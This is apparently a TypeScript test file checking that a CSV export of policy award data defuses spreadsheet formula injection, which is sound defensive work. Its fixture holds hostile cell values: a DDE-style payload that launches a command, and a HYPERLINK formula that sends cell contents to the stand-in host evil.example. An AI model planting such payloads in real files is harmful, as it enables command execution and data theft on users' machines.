import { describe, expect, it } from 'vitest';
import type { AwardJson } from '../../src/lib/site/api-types';
import { AWARD_CSV_COLUMNS, awardCsvHeaders, awardsCsvText, type CsvContext } from '../../src/lib/site/awards-csv';
import { BOM, csvCell } from '../../src/lib/site/csv';

/**
 * Reads CSV as RFC 4180 says and spreadsheets do: fields separated by commas, a field in double
 * quotes may hold commas, line breaks and doubled quotes, records end with CRLF.
 */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  const body = text.startsWith(BOM) ? text.slice(1) : text;
  while (i < body.length) {
    if (body[i] === '"' && field === '') {
      // A quoted field: up to the quote that is not doubled.
      i++;
      for (;;) {
        const end = body.indexOf('"', i);
        if (end < 0) throw new Error('unterminated quoted field');
        field += body.slice(i, end);
        i = end + 1;
        if (body[i] !== '"') break;
        field += '"';
        i++;
      }
      continue;
    }
    if (body[i] === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (body.startsWith('\r\n', i)) {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else {
      field += body.charAt(i);
      i++;
    }
  }
  if (field !== '' || row.length > 0) throw new Error('the last record has no CRLF');
  return rows;
}

/** An award whose text came from a hostile source line or curated condition. */
const hostile: AwardJson = {
  id: 'x-award',
  policy: 'x-policy',
  clause: 1,
  numeral: '一',
  clauseTitle: "@SUM(1+1)*cmd|' /C calc'!A0",
  clauseLabel: '第一条',
  policyTitle: '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
  recipient: '-2+3',
  condition: '+1 获评国家级，奖励',
  level: '\t=1+1',
  kind: '\r=1+1',
  amountType: 'fixed',
  amountText: '200万元',
  amountYuan: 2_000_000,
  rate: null,
  capYuan: null,
  base: '-',
  maxYuan: -5,
  industries: ['=A1', '化工'],
  departments: [],
  ladder: null,
  quote: '对获评的，给予200万元资助；=1+1 在句中不算',
  url: '/policies/x-policy/1/#award-x-award',
  sentenceUrl: '/policies/x-policy/1/#s1',
};

const ctx: CsvContext = {
  status: new Map([['x-policy', { status: { state: 'in-force', label: '现行有效', message: '' }, expiresOn: null }]]),
  site: undefined,
};

describe('CSV formula injection', () => {
  it('starts every text cell that a spreadsheet would read as a formula with a single quote, and changes nothing else', () => {
    const [header, row, ...rest] = readCsv(awardsCsvText([hostile], ctx));
    expect(rest).toEqual([]);
    expect(header).toEqual(awardCsvHeaders(ctx.site));
    const cell = (name: string) => row?.[AWARD_CSV_COLUMNS.findIndex((c) => c.header === name)];
    expect(cell('政策')).toBe(`'${hostile.policyTitle}`);
    expect(cell('条款标题')).toBe(`'${String(hostile.clauseTitle)}`);
    expect(cell('条件')).toBe(`'${hostile.condition}`);
    expect(cell('对象')).toBe(`'${hostile.recipient}`);
    expect(cell('级别')).toBe(`'${String(hostile.level)}`);
    expect(cell('支持方式')).toBe(`'${hostile.kind}`);
    // A lone "-" is text: prefixed too (OWASP prefixes every text cell that starts so).
    expect(cell('基数')).toBe("'-");
    expect(cell('产业')).toBe("'=A1、化工");
    // Numbers stay numbers, a negative one included; a formula sign inside a text is harmless.
    expect(cell('定额（元）')).toBe('2000000');
    expect(cell('最高金额（元）')).toBe('-5');
    expect(cell('原文')).toBe(hostile.quote);
    expect(cell('奖励编号')).toBe('x-award');
    expect(cell('金额')).toBe('200万元');
  });

  it('leaves no cell of the file starting with a formula sign unless it is a number', () => {
    const [, row] = readCsv(awardsCsvText([hostile], ctx));
    const risky = (row ?? []).filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
    expect(risky).toEqual([]);
  });

  it('quotes a semicolon, so that Excel set to ; as separator cannot start a cell inside one', () => {
    expect(csvCell('a;=1+1')).toBe('"a;=1+1"');
    expect(csvCell('=a,b')).toBe(`"'=a,b"`);
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell('')).toBe('');
  });
});
